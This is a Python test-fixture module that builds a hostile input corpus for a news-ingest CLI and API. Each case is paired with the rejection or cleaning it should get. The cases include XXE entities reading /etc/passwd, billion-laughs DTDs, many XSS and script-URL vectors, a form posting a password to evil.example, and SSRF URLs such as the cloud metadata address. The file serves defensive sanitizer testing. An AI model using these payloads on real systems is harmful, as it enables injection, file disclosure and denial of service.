"""The hostile corpus of the fault suite: inputs an attacker, a broken CMS or a careless editor
could send to ``newswire publish FILE`` and to ``POST /v1/articles``, each with the outcome that
docs/article-json.md promises for it.

A :class:`Case` holds its name, its kind (the group it belongs to), the raw bytes of the file or
request body, whether it is an article JSON or an HTML article page (pages go through the CLI only:
the ingest API takes article JSON), the request's media type and the expected outcome:

* :class:`Rejected` — the field the error must name (``$`` for the document as a whole), the
  ingest API's status (400 bad encoding or syntax, 413 too large, 415 media type, 422 field errors)
  and, optionally, words the problem must contain;
* :class:`Cleaned` — accepted after the documented cleaning: ``gone`` are strings that must be
  left nowhere in the event nor in any of its rendered outputs (compared case-insensitively),
  ``kept`` are ``(field path, text)`` pairs: the field (``bylines.0.name``) must still hold the text.

The word ``CHANNEL`` in a case's bytes stands for the path it goes through (``cli`` or ``api``),
so that the two paths publish different articles: a JSON case's article id is ``<channel>.<name>``,
a page's is ``hostile.example:<channel>.<name>`` (derived from its canonical URL).

Kinds: XXE and entity expansion (billion laughs), scripts and event handlers in bodies,
dangerous URL schemes, oversize fields, invalid UTF-8, lone surrogates, XML-illegal control
characters in every text field, right-to-left and mixed-direction text, bidi overrides,
zero-width characters (and headlines of nothing else), C1 controls, link and image URLs at internal
addresses, unknown and retired Media Topics, wrong types for every field, duplicate keys,
NaN/Infinity, deep nesting, huge numbers, naive and out-of-range timestamps (before 1970, far
ahead), bad language tags, unknown fields, documents
that are not objects, wrong media types, and HTML pages carrying the same attacks.

:func:`end_cases` are kills and withdrawals with hostile reasons (an :class:`EndCase` each).

:func:`topic_garbage` is the other half: messages written straight onto the articles topic,
past the producers (not single-object encoded, unknown fingerprints, truncated Avro, Avro of
another schema, and events that fit the schema but carry what a producer would never let
through). A consumer must dead-letter the unusable ones with the reason and render the rest
safely, never stall.
"""

from __future__ import annotations

import gzip
import io
import json
import random
from dataclasses import dataclass
from datetime import datetime, timezone
from typing import Any, Iterator

import fastavro

from newswire import codec, corpus

CHANNEL = "CHANNEL"
PAGE_HOST = "hostile.example"
PARAGRAPH = "A plain paragraph of the story."
#: characters illegal in XML 1.0 (and the BOM), all removed by newswire.sanitize.clean_text
ILLEGAL = "\x00\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff\ufeff"
BIDI_OVERRIDES = "\u202a\u202b\u202c\u202d\u202e"
#: what /etc/passwd starts with: an XXE that worked would leave it in the output
PASSWD = "root:x:0:0"
XXE_DTD = '<!DOCTYPE story [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS_DTD = "<!DOCTYPE lolz [<!ENTITY lol \"lol\">" + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
LAUGHS = "lollollollollollollol"
_DROP = object()


@dataclass(frozen=True)
class Rejected:
    field: str
    status: int = 422
    problem: str = ""


@dataclass(frozen=True)
class Cleaned:
    gone: tuple[str, ...] = ()
    kept: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    raw: bytes
    expected: Rejected | Cleaned
    page: bool = False
    content_type: str = "application/json"
    content_encoding: str | None = None  #: of the API request (the CLI reads the bytes as they are)
    cli: bool = True  #: False for what only HTTP has (media types)

    def payload(self, channel: str) -> bytes:
        return self.raw.replace(CHANNEL.encode(), channel.encode())

    def article_id(self, channel: str) -> str:
        return f"{PAGE_HOST}:{channel}.{self.name}" if self.page else f"{channel}.{self.name}"

    @property
    def api(self) -> bool:
        return not self.page

    @property
    def suffix(self) -> str:
        return ".html" if self.page else ".json"


def document(name: str, **fields: Any) -> dict[str, Any]:
    """A valid article JSON for case ``name`` with ``fields`` changed (``_DROP`` removes one)."""
    doc: dict[str, Any] = {"article_id": f"{CHANNEL}.{name}", "headline": "Hostile input",
                           "language": "en", "body": f"<p>{PARAGRAPH}</p>"}
    for key, value in fields.items():
        if value is _DROP:
            doc.pop(key, None)
        else:
            doc[key] = value
    return doc


def encode(doc: Any) -> bytes:
    """JSON bytes, UTF-8 where the text allows it, else ASCII with ``\\u`` escapes (lone surrogates)."""
    try:
        return json.dumps(doc, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(doc).encode("ascii")


def _json(kind: str, name: str, expected: Rejected | Cleaned, **fields: Any) -> Case:
    return Case(name, kind, encode(document(name, **fields)), expected)


def _raw(kind: str, name: str, raw: bytes, expected: Rejected | Cleaned, **options: Any) -> Case:
    return Case(name, kind, raw, expected, **options)


def _spliced(name: str, field_json: bytes) -> bytes:
    """A valid document whose last member is ``field_json`` given verbatim (bytes, not JSON-encoded)."""
    head = encode(document(name))[:-1]
    return head + b", " + field_json + b"}"


def _page(name: str, article: str, *, head: str = "", prolog: str = "", canonical: str | None = None,
          charset: str = "utf-8") -> bytes:
    url = canonical if canonical is not None else f"https://{PAGE_HOST}/news/{CHANNEL}.{name}"
    link = f'<link rel="canonical" href="{url}">' if url else ""
    return (f'{prolog}<html lang="en"><head><meta charset="{charset}"><title>Hostile page</title>{link}{head}'
            f'</head><body><article><h1>Hostile page</h1>{article}'
            f"<p>{PARAGRAPH} It goes on for a while, as a story does, with a second sentence.</p>"
            f"<p>A third paragraph closes the story with a quote from an official.</p></article></body></html>").encode()


def _gone(*texts: str, kept: tuple[tuple[str, str], ...] = (("body", PARAGRAPH),)) -> Cleaned:
    return Cleaned(gone=texts, kept=kept)


# --- XXE and entity expansion ---------------------------------------------------------------

def xxe_and_entities() -> Iterator[Case]:
    k = "xxe"
    yield _json(k, "xxe_doctype_in_body", _gone(PASSWD, "<!entity", "<!doctype", kept=(("body", "Reading"),)),
                body=f"{XXE_DTD}<p>Reading &xxe; here.</p>")
    yield _json(k, "xxe_parameter_entity_in_body", _gone("<!entity", "evil.dtd"),
                body='<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'
                     f"<p>{PARAGRAPH}</p>")
    yield _json(k, "xxe_text_in_headline", Cleaned(gone=(PASSWD,), kept=(("headline", "&xxe;"),)),
                headline=f"{XXE_DTD}Leak &xxe;")
    yield _json(k, "xinclude_in_body", _gone(PASSWD, "include"),
                body='<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" '
                     f'parse="text"/>{PARAGRAPH}</p>')
    yield _json(k, "xml_declaration_in_body", _gone("<?xml", "utf-16"),
                body=f'<?xml version="1.0" encoding="UTF-16"?><p>{PARAGRAPH}</p>')
    yield _json(k, "cdata_script_in_body", _gone("<script", "cdata", kept=(("body", "text"),)),
                body="<p><![CDATA[<script>alert(1)</script>]]>text</p>")
    yield _json(k, "billion_laughs_in_body", _gone(LAUGHS, "<!entity"),
                body=f"{LAUGHS_DTD}<p>&lol9;</p><p>{PARAGRAPH}</p>")
    yield _json(k, "billion_laughs_in_summary", Cleaned(gone=(LAUGHS,), kept=(("summary", "&lol9;"),)),
                summary=f"{LAUGHS_DTD}&lol9;")
    yield _json(k, "quadratic_blowup_in_body", _gone("a" * 200),
                body=f'<!DOCTYPE q [<!ENTITY a "{"a" * 5000}">]><p>{"&a;" * 2000}</p><p>{PARAGRAPH}</p>')


# --- scripts, event handlers and active content in bodies -----------------------------------

def _body(name: str, body: str, *gone: str) -> Case:
    return _json("script", name, _gone(*gone), body=f"<p>{PARAGRAPH}</p>{body}")


def scripts() -> Iterator[Case]:
    yield _body("script_tag", "<script>alert('x')</script>", "<script", "alert")
    yield _body("script_uppercase_src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script", "evil.example")
    yield _body("script_split_tag", "<p>x<scr<script>ipt>alert(1)</script></p>", "<script")
    yield _body("img_onerror", '<p>Photo <img src=x onerror="alert(1)"></p>', "onerror", "<img")
    yield _body("svg_onload", '<svg onload="alert(1)"><circle r="1"/></svg>', "<svg", "onload")
    yield _body("svg_script_xlink", '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a>'
                                    "<script>alert(1)</script></svg>", "javascript", "<svg")
    yield _body("a_javascript", '<p><a href="javascript:alert(1)">click</a></p>', "javascript", "alert")
    yield _body("a_javascript_mixed_case", '<p><a href="JaVaScRiPt:alert(1)">click</a></p>', "javascript")
    yield _body("a_javascript_entity_colon", '<p><a href="javascript&#58;alert(1)">click</a></p>', "alert")
    yield _body("a_javascript_all_entities", '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;'
                                             '&#116;&#58;alert(1)">click</a></p>', "alert", "&#106")
    yield _body("a_javascript_tab_entity", '<p><a href="jav&#x09;ascript:alert(1)">click</a></p>', "alert")
    yield _body("a_javascript_raw_tab_newline", '<p><a href="jav\tas\ncript:alert(1)">click</a></p>', "alert")
    yield _body("a_javascript_leading_controls", '<p><a href=" &#14;  javascript:alert(1)">click</a></p>', "alert")
    yield _body("a_vbscript", '<p><a href="vbscript:msgbox(1)">click</a></p>', "vbscript", "msgbox")
    yield _body("a_data_html", '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
                               "click</a></p>", "data:", "base64")
    yield _body("iframe_srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
                "iframe", "srcdoc", "alert")
    yield _body("object_and_embed", '<object data="https://evil.example/x.swf"><embed src="x.swf"></object>',
                "<object", "<embed", "swf")
    yield _body("style_tag_and_attribute", "<style>p{background:url(javascript:alert(1))}</style>"
                                           '<p style="width:expression(alert(1))">Styled.</p>',
                "<style", "style=", "expression", "javascript")
    yield _body("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
                "refresh", "<meta", "javascript")
    yield _body("form_action", '<form action="https://evil.example/steal"><input name="p" type="password">'
                               '<button formaction="javascript:alert(1)">Go</button></form>',
                "<form", "<input", "formaction", "evil.example")
    yield _body("body_onload", '<body onload="alert(1)"><p>Inside.</p></body>', "onload", "alert")
    yield _body("details_ontoggle", "<details open ontoggle=alert(1)><summary>More</summary></details>",
                "ontoggle", "alert")
    yield _body("span_onmouseover", '<p><span onmouseover="alert(1)" dir="rtl">hover</span></p>',
                "onmouseover", "alert")
    yield _body("a_onclick_target", '<p><a href="https://ok.example/" onclick="steal()" target="_blank">ok</a></p>',
                "onclick", "target=", "steal")
    yield _body("noscript_mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
                "onerror", "<img", "noscript")
    yield _body("math_maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'
                                "</maction></math>", "javascript", "<math")
    yield _body("base_href", '<base href="javascript:alert(1)//"><p><a href="/x">rel</a></p>', "<base", "javascript")
    yield _body("link_import", '<link rel="import" href="https://evil.example/x.html">', 'rel="import"', "evil.example")
    yield _body("template_script", "<template><script>alert(1)</script></template>", "<template", "alert")
    yield _body("html_comment_script", "<!--<script>alert(1)</script>-->", "<!--", "alert")
    yield _body("blockquote_cite_javascript", '<blockquote cite="javascript:alert(1)">Quoted.</blockquote>',
                "javascript")
    yield _body("q_cite_data", '<p><q cite="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Quoted</q></p>',
                "data:", "alert")
    yield _body("textarea_breakout", "<textarea></textarea><script>alert(1)</script></textarea>", "<script", "alert")


# --- dangerous URLs in URL fields -----------------------------------------------------------

def urls() -> Iterator[Case]:
    k = "url"
    for name, url, problem in [
        ("canonical_javascript", "javascript:alert(1)", "javascript:"),
        ("canonical_javascript_mixed_case", "JaVaScRiPt:alert(1)", "not allowed"),
        ("canonical_javascript_padded", "  javascript:alert(1)  ", "javascript:"),
        ("canonical_javascript_tab", "java\tscript:alert(1)", "whitespace"),
        ("canonical_data", "data:text/html,<script>alert(1)</script>", "data:"),
        ("canonical_vbscript", "vbscript:msgbox(1)", "vbscript:"),
        ("canonical_file", "file:///etc/passwd", "file:"),
        ("canonical_protocol_relative", "//evil.example/x", "absolute"),
        ("canonical_no_host", "http:///path", "no host"),
    ]:
        yield _json(k, name, Rejected("canonical_url", problem=problem), canonical_url=url)
    good = {"url": "https://media.example.org/ok.jpg"}
    yield _json(k, "image_javascript", Rejected("images[0].url", problem="javascript:"),
                images=[{"url": "javascript:alert(1)"}])
    yield _json(k, "image_data_svg", Rejected("images[1].url", problem="data:"),
                images=[good, {"url": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}])
    yield _json(k, "image_vbscript", Rejected("images[0].url"), images=[{"url": "VBScript:msgbox(1)"}])
    yield _json(k, "image_entity_scheme", Rejected("images[0].url", problem="absolute"),
                images=[{"url": "javascript&#58;alert(1)"}])
    yield _json(k, "canonical_controls_removed", Cleaned(gone=("\x00",), kept=(("canonical_url", "https://example.org/ab"),)),
                canonical_url="https://exa\x00mple.org/a\x01b")


# --- oversize fields --------------------------------------------------------------------------

def oversize() -> Iterator[Case]:
    k = "oversize"
    yield _json(k, "headline_301_chars", Rejected("headline", problem="at most 300"), headline="x" * 301)
    yield _json(k, "headline_one_million_chars", Rejected("headline", problem="at most 300"), headline="x" * 1_000_000)
    yield _json(k, "body_over_one_megabyte", Rejected("body", problem="at most 1000000"),
                body="<p>" + "y" * 1_000_000 + "</p>")
    yield _json(k, "document_over_two_mebibytes", Rejected("$", status=413), body="<p>" + "z" * 2_200_000 + "</p>")
    yield _json(k, "keywords_10000", Rejected("keywords", problem="10000 items"),
                keywords=[f"keyword{i}" for i in range(10_000)])
    yield _json(k, "images_1000", Rejected("images", problem="1000 items"),
                images=[{"url": f"https://media.example.org/{i}.jpg"} for i in range(1000)])
    yield _json(k, "bylines_100", Rejected("bylines", problem="100 items"), bylines=[{"name": f"N{i}"} for i in range(100)])
    yield _json(k, "keyword_101_chars", Rejected("keywords[1]", problem="at most 100"), keywords=["ok", "k" * 101])
    yield _json(k, "slugline_65_chars", Rejected("slugline", problem="at most 64"), slugline="S" * 65)
    yield _json(k, "canonical_url_3000_chars", Rejected("canonical_url", problem="at most 2048"),
                canonical_url="https://example.org/" + "p" * 3000)
    yield _json(k, "caption_2001_chars", Rejected("images[0].caption", problem="at most 2000"),
                images=[{"url": "https://media.example.org/a.jpg", "caption": "c" * 2001}])


# --- encodings: invalid UTF-8, lone surrogates --------------------------------------------------

def encodings() -> Iterator[Case]:
    k = "utf8"
    for name, bad in [
        ("utf8_lone_ff", b"\xff"),
        ("utf8_latin1_e_acute", b"caf\xe9"),
        ("utf8_bad_continuation", b"\xc3\x28"),
        ("utf8_overlong_less_than", b"\xc0\xbcscript\xc0\xbe"),
        ("utf8_overlong_nul", b"a\xc0\x80b"),
        ("utf8_overlong_three_bytes", b"\xe0\x80\xaf"),
        ("utf8_encoded_surrogate", b"\xed\xa0\x80"),
        ("utf8_beyond_u10ffff", b"\xf4\x90\x80\x80"),
        ("utf8_truncated_sequence", b"euro \xe2\x82"),
    ]:
        yield _raw(k, name, _spliced(name, b'"summary": "' + bad + b'"'), Rejected("$", status=400, problem="UTF-8"))
    yield _raw(k, "utf16_document", encode(document("utf16_document")).decode().encode("utf-16"),
               Rejected("$", status=400, problem="UTF-8"))
    k = "surrogate"
    yield _json(k, "lone_high_surrogate_in_headline", Cleaned(gone=("\ud800",), kept=(("headline", "AB"),)),
                headline="A\ud800B")
    yield _json(k, "lone_low_surrogate_in_body", Cleaned(gone=("\udfff",), kept=(("body", "Sur"),)),
                body="<p>Sur\udfffrogate</p>")
    yield _json(k, "reversed_surrogate_pair_in_summary", Cleaned(kept=(("summary", "xy"),)),
                summary="x\ude00\ud83dy")
    yield _json(k, "escaped_surrogate_pair_kept", Cleaned(kept=(("headline", "\U0001f600"),)),
                headline="Smile \U0001f600")
    yield _json(k, "lone_surrogate_only_keyword", Rejected("keywords[0]", problem="empty"), keywords=["\udc00"])
    yield _json(k, "lone_surrogate_in_article_id", Rejected("article_id"), article_id="id\ud800")


# --- characters: XML-illegal controls, bidi, zero-width, right-to-left ---------------------------

TEXT_FIELDS = ("headline", "subheadline", "slugline", "summary", "provider", "copyright_notice", "usage_terms",
               "content_warning")


def controls() -> Iterator[Case]:
    k = "controls"
    dirty = f"Alpha{ILLEGAL}Omega"
    for field in TEXT_FIELDS:
        yield _json(k, f"controls_in_{field}", Cleaned(gone=tuple(ILLEGAL), kept=((field, "AlphaOmega"),)),
                    **{field: dirty})
    yield _json(k, "controls_in_correction_note", Cleaned(gone=tuple(ILLEGAL), kept=(("correction_note", "AlphaOmega"),)),
                version=2, event_type="corrected", first_created="2026-11-26T06:00:00Z", correction_note=dirty)
    nested = {
        "bylines.0.name": {"bylines": [{"name": dirty, "role": "reporter"}]},
        "bylines.0.role": {"bylines": [{"name": "Reporter", "role": dirty}]},
        "dateline.place": {"dateline": {"place": dirty, "date": "2026-11-26"}},
        "categories.0": {"categories": [dirty]},
        "keywords.0": {"keywords": [dirty]},
        "places.0": {"places": [dirty]},
        "subjects.0.name": {"subjects": [{"code": "medtop:11000000", "name": dirty}]},
        "images.0.caption": {"images": [{"url": "https://media.example.org/c.jpg", "caption": dirty}]},
        "images.0.credit": {"images": [{"url": "https://media.example.org/c.jpg", "credit": dirty}]},
        "images.0.alt_text": {"images": [{"url": "https://media.example.org/c.jpg", "alt_text": dirty}]},
        "body": {"body": f"<p>{dirty}</p>"},
    }
    for path, fields in nested.items():
        yield _json(k, f"controls_in_{path.replace('.0.', '_').replace('.', '_')}",
                    Cleaned(gone=tuple(ILLEGAL), kept=((path, "AlphaOmega"),)), **fields)
    yield _json(k, "controls_as_character_references_in_body",
                Cleaned(gone=(*ILLEGAL, "\u202e", "\ufffd"), kept=(("body", "AlphaOmega"), ("body", 'title="t"'))),
                body="<p>Alpha&#x01;&#xB;&#x1B;&#xFFFE;&#xFFFF;&#xFEFF;&#x202E;Omega</p>"
                     '<p><abbr title="&#x202e;t&#x7;">abbr</abbr></p>')
    yield _raw(k, "raw_control_byte_in_json_string", _spliced("raw_control_byte_in_json_string", b'"summary": "a\x01b"'),
               Rejected("$", status=400, problem="control character"))
    yield _json(k, "controls_in_article_id", Rejected("article_id"), article_id="id\x00\x1b")
    yield _json(k, "controls_in_language", Rejected("language"), language="en\x00")
    # Python's ISO 8601 parser skips the NUL: the time is read, and nothing of the NUL is left
    yield _json(k, "controls_in_occurred_at", Cleaned(gone=("\x00",)), occurred_at="2026-11-26T08:00:00\x00Z")


def directions() -> Iterator[Case]:
    k = "rtl"
    arabic = "استئناف المحادثات في إدلب\u061c وسط ضغوط"
    yield _json(k, "arabic_story", Cleaned(kept=(("headline", arabic), ("body", "قال مسؤولون"), ("bylines.0.name", "سارة العلي"))),
                language="ar", headline=arabic, body="<p>قال مسؤولون في دمشق إن المفاوضات ستستمر.</p>",
                bylines=[{"name": "سارة العلي", "role": "مراسلة"}])
    mixed = "\u200fראש הממשלה said \u200e\"OK\"\u200f ב-2026"
    yield _json(k, "hebrew_mixed_direction_with_marks", Cleaned(kept=(("headline", mixed), ("summary", "NATO"))),
                language="he", headline=mixed, summary="ההחלטה של NATO התקבלה ב-12 בנובמבר", body="<p>גורמים אמרו.</p>")
    isolated = "Minister \u2067وزير الخارجية\u2069 met \u2066Jane Doe\u2069 and \u2068שר החוץ\u2069"
    yield _json(k, "isolates_kept", Cleaned(kept=(("headline", isolated),)), headline=isolated)
    yield _json(k, "rtl_paragraph_in_english_story", Cleaned(kept=(("body", 'dir="rtl"'), ("body", "مرحبا"))),
                body=f'<p>{PARAGRAPH}</p><p dir="rtl" lang="ar">مرحبا بالعالم</p>')
    k = "bidi"
    yield _json(k, "bidi_override_trojan_headline", Cleaned(gone=BIDI_OVERRIDES, kept=(("headline", "invoicegpj.exe"),)),
                headline="Report: invoice\u202egpj.exe")
    yield _json(k, "bidi_embeddings_everywhere",
                Cleaned(gone=BIDI_OVERRIDES, kept=(("summary", "abc"), ("bylines.0.name", "Eve"), ("keywords.0", "kw"),
                                                   ("images.0.caption", "cap"), ("body", "para"))),
                summary="\u202aa\u202bb\u202cc", bylines=[{"name": "\u202dEve\u202c"}], keywords=["k\u202ew"],
                images=[{"url": "https://media.example.org/b.jpg", "caption": "c\u202eap"}],
                body="<p>\u202epara\u202c</p>")
    yield _json(k, "bidi_override_in_article_id", Rejected("article_id"), article_id="id\u202eevil")
    k = "zero_width"
    family = "Family \U0001f468\u200d\U0001f469\u200d\U0001f467 day"
    yield _json(k, "zwj_emoji_sequence_kept", Cleaned(kept=(("headline", family),)), headline=family)
    persian = "می\u200cخواهم"
    yield _json(k, "zwnj_persian_kept", Cleaned(kept=(("headline", persian), ("body", persian))),
                language="fa", headline=persian, body=f"<p>{persian} بروم.</p>")
    yield _json(k, "zero_width_space_and_word_joiner_kept", Cleaned(kept=(("headline", "Zero\u200bWidth\u2060Joined"),)),
                headline="Zero\u200bWidth\u2060Joined")
    yield _json(k, "bom_inside_text_removed", Cleaned(gone=("\ufeff",), kept=(("headline", "BOMinside"),)),
                headline="BOM\ufeffinside")
    yield _json(k, "zero_width_only_headline", Rejected("headline", problem="only invisible"),
                headline="\u200b\u200c\u200d\u2060")
    k = "c1_controls"
    yield _json(k, "c1_controls_and_replacement_character_removed",
                Cleaned(gone=("\x80", "\x9b", "\ufffd"), kept=(("headline", "Café"), ("body", "Café"))),
                headline="Caf\u00e9\x80\x9b\ufffd", body="<p>Caf\u00e9\x9b\ufffd</p>")
    k = "internal_urls"
    for name, url, field, problem in [
            ("canonical_loopback", "http://127.0.0.1/x", "canonical_url", "loopback"),
            ("image_metadata_service", "http://169.254.169.254/latest/meta-data/", "images[0].url", "link-local"),
            ("image_private_ipv6_mapped", "http://[::ffff:10.0.0.1]/a.jpg", "images[0].url", "not a public address"),
            ("image_localhost", "http://localhost/a.jpg", "images[0].url", "reserved for local")]:
        fields = {"canonical_url": url} if field == "canonical_url" else {"images": [{"url": url}]}
        yield _json(k, name, Rejected(field, problem=problem), **fields)
    k = "media_topics"
    yield _json(k, "media_topic_unknown", Rejected("subjects[0].code", problem="not in the IPTC Media Topics"),
                subjects=[{"code": "medtop:99999999"}])
    yield _json(k, "media_topic_retired", Rejected("subjects[0].code", problem="retired"),
                subjects=[{"code": "medtop:20000064"}])


# --- wrong types ------------------------------------------------------------------------------

def wrong_types() -> Iterator[Case]:
    k = "type"
    img = "https://media.example.org/t.jpg"
    cases: list[tuple[str, str, dict[str, Any]]] = [
        ("article_id_number", "article_id", {"article_id": 12345}),
        ("article_id_null", "article_id", {"article_id": None}),
        ("article_id_missing", "article_id", {"article_id": _DROP}),
        ("version_string", "version", {"version": "2"}),
        ("version_float", "version", {"version": 2.0}),
        ("event_type_number", "event_type", {"event_type": 1}),
        ("event_type_killed", "event_type", {"event_type": "killed"}),
        ("headline_number", "headline", {"headline": 42}),
        ("headline_null", "headline", {"headline": None}),
        ("headline_blank", "headline", {"headline": " \t\n "}),
        ("headline_only_controls", "headline", {"headline": "\x00\x01\u202e"}),
        ("subheadline_array", "subheadline", {"subheadline": ["a", "b"]}),
        ("slugline_boolean", "slugline", {"slugline": True}),
        ("summary_object", "summary", {"summary": {"text": "x"}}),
        ("body_number", "body", {"body": 7}),
        ("body_array", "body", {"body": ["<p>a</p>"]}),
        ("body_null", "body", {"body": None}),
        ("body_only_script", "body", {"body": "<script>alert(1)</script>"}),
        ("language_number", "language", {"language": 1}),
        ("language_null", "language", {"language": None}),
        ("occurred_at_number", "occurred_at", {"occurred_at": 1764144000}),
        ("first_created_object", "first_created", {"first_created": {"date": "2026-11-26"}}),
        ("embargo_until_boolean", "embargo_until", {"embargo_until": True}),
        ("bylines_object", "bylines", {"bylines": {"name": "A"}}),
        ("byline_string", "bylines[0]", {"bylines": ["Jane Doe"]}),
        ("byline_name_number", "bylines[0].name", {"bylines": [{"name": 5}]}),
        ("dateline_array", "dateline", {"dateline": ["ISTANBUL"]}),
        ("dateline_date_number", "dateline.date", {"dateline": {"place": "X", "date": 20261126}}),
        ("categories_object", "categories", {"categories": {"a": 1}}),
        ("keywords_string", "keywords", {"keywords": "a,b"}),
        ("keyword_number", "keywords[0]", {"keywords": [1]}),
        ("places_number", "places", {"places": 3}),
        ("subjects_object", "subjects", {"subjects": {"code": "medtop:11000000"}}),
        ("subject_code_number", "subjects[0].code", {"subjects": [{"code": 11000000}]}),
        ("urgency_true", "urgency", {"urgency": True}),
        ("urgency_false", "urgency", {"urgency": False}),
        ("urgency_string", "urgency", {"urgency": "3"}),
        ("urgency_float", "urgency", {"urgency": 3.0}),
        ("urgency_object", "urgency", {"urgency": {"level": 3}}),
        ("canonical_url_number", "canonical_url", {"canonical_url": 80}),
        ("images_object", "images", {"images": {"url": img}}),
        ("image_string", "images[0]", {"images": [img]}),
        ("image_url_array", "images[0].url", {"images": [{"url": [img]}]}),
        ("image_width_string", "images[0].width", {"images": [{"url": img, "width": "100"}]}),
        ("image_height_boolean", "images[0].height", {"images": [{"url": img, "height": True}]}),
        ("image_media_type_number", "images[0].media_type", {"images": [{"url": img, "media_type": 1}]}),
        ("image_media_type_html", "images[0].media_type", {"images": [{"url": img, "media_type": "text/html"}]}),
        ("correction_note_number", "correction_note",
         {"version": 2, "event_type": "corrected", "first_created": "2026-11-26T06:00:00Z", "correction_note": 1}),
        ("provider_array", "provider", {"provider": ["A"]}),
        ("copyright_notice_object", "copyright_notice", {"copyright_notice": {}}),
        ("usage_terms_number", "usage_terms", {"usage_terms": 0}),
        ("content_warning_boolean", "content_warning", {"content_warning": False}),
    ]
    for name, field, fields in cases:
        yield _json(k, name, Rejected(field), **fields)
    k = "document"
    for name, raw in [("document_array", b"[]"), ("document_string", b'"article"'), ("document_null", b"null"),
                      ("document_number", b"42"), ("document_empty", b""), ("document_bom_only", b"\xef\xbb\xbf"),
                      ("document_truncated", b'{"article_id": "x", "headline": "')]:
        yield _raw(k, name, raw, Rejected("$", status=400))


# --- JSON edge cases ------------------------------------------------------------------------------

def json_edges() -> Iterator[Case]:
    k = "duplicate"
    yield _raw(k, "duplicate_headline", _spliced("duplicate_headline", b'"headline": "Second headline"'),
               Rejected("$", status=400, problem="duplicate key 'headline'"))
    yield _raw(k, "duplicate_article_id", _spliced("duplicate_article_id", b'"article_id": "someone-else"'),
               Rejected("$", status=400, problem="duplicate key 'article_id'"))
    yield _raw(k, "duplicate_key_in_image", _spliced("duplicate_key_in_image",
                                                     b'"images": [{"url": "https://a.example/1.jpg", '
                                                     b'"url": "javascript:alert(1)"}]'),
               Rejected("$", status=400, problem="duplicate key 'url'"))
    k = "nan"
    for name, member, word in [("urgency_nan", b'"urgency": NaN', "NaN"),
                               ("version_infinity", b'"version": Infinity', "Infinity"),
                               ("width_minus_infinity", b'"images": [{"url": "https://a.example/1.jpg", "width": -Infinity}]',
                                "-Infinity")]:
        yield _raw(k, name, _spliced(name, member), Rejected("$", status=400, problem=word))
    k = "nesting"
    deep = 100_000
    yield _raw(k, "deeply_nested_arrays_document", b"[" * deep + b"]" * deep, Rejected("$", status=400, problem="nested"))
    yield _raw(k, "deeply_nested_array_in_headline", _spliced("deeply_nested_array_in_headline",
                                                              b'"headline": ' + b"[" * deep + b"]" * deep),
               Rejected("$", status=400, problem="nested"))
    yield _raw(k, "deeply_nested_objects_in_unknown_field",
               _spliced("deeply_nested_objects_in_unknown_field", b'"extra": ' + b'{"a":' * deep + b"1" + b"}" * deep),
               Rejected("$", status=400, problem="nested"))
    deep_html = f"<p>{PARAGRAPH}</p>" + "<blockquote>" * 300 + "deep text" + "</blockquote>" * 300 + "<p>after</p>"
    yield _json(k, "html_nested_300_deep_in_body", Cleaned(kept=(("body", "deep text"), ("body", "after"))),
                body=deep_html)
    nested: Any = "kw"
    for _ in range(200):
        nested = [nested]
    yield _json(k, "nested_200_in_keywords", Rejected("keywords[0]", problem="must be a string"), keywords=[nested])
    k = "number"
    yield _json(k, "urgency_huge_integer", Rejected("urgency", problem="between 1 and 9"), urgency=10**30)
    yield _json(k, "version_two_to_the_63", Rejected("version"), version=2**63)
    yield _json(k, "image_width_huge", Rejected("images[0].width"), images=[{"url": "https://a.example/1.jpg",
                                                                            "width": 10**20}])
    yield _raw(k, "urgency_1e400", _spliced("urgency_1e400", b'"urgency": 1e400'), Rejected("urgency"))
    yield _raw(k, "urgency_5000_digits", _spliced("urgency_5000_digits", b'"urgency": ' + b"9" * 5000),
               Rejected("$", status=400, problem="digits"))
    yield _json(k, "urgency_negative_zero", Rejected("urgency"), urgency=0)
    yield _json(k, "version_max_int", Cleaned(kept=(("body", PARAGRAPH),)),
                version=2**31 - 1, first_created="2026-11-26T06:00:00Z")


# --- timestamps, language tags, unknown fields --------------------------------------------------

def timestamps() -> Iterator[Case]:
    k = "timestamp"
    yield _json(k, "occurred_at_naive", Rejected("occurred_at", problem="no UTC offset"),
                occurred_at="2026-11-26T08:00:00")
    yield _json(k, "occurred_at_date_only", Rejected("occurred_at", problem="no UTC offset"), occurred_at="2026-11-26")
    yield _json(k, "first_created_naive", Rejected("first_created", problem="no UTC offset"),
                version=2, first_created="2026-11-26T06:00:00")
    yield _json(k, "embargo_until_naive", Rejected("embargo_until", problem="no UTC offset"),
                embargo_until="2026-12-01T00:00:00")
    yield _json(k, "occurred_at_offset_over_24h", Rejected("occurred_at"), occurred_at="2026-11-26T08:00:00+25:00")
    yield _json(k, "occurred_at_after_year_9999_in_utc", Rejected("occurred_at", problem="range"),
                occurred_at="9999-12-31T23:30:00-01:00")
    yield _json(k, "occurred_at_before_year_1_in_utc", Rejected("occurred_at", problem="range"),
                occurred_at="0001-01-01T00:30:00+01:00")
    yield _json(k, "occurred_at_year_1", Rejected("occurred_at", problem="before 1970"),
                occurred_at="0001-01-01T00:00:00Z")
    yield _json(k, "occurred_at_9999", Rejected("occurred_at", problem="after now"), occurred_at="9999-12-31T00:00:00Z")
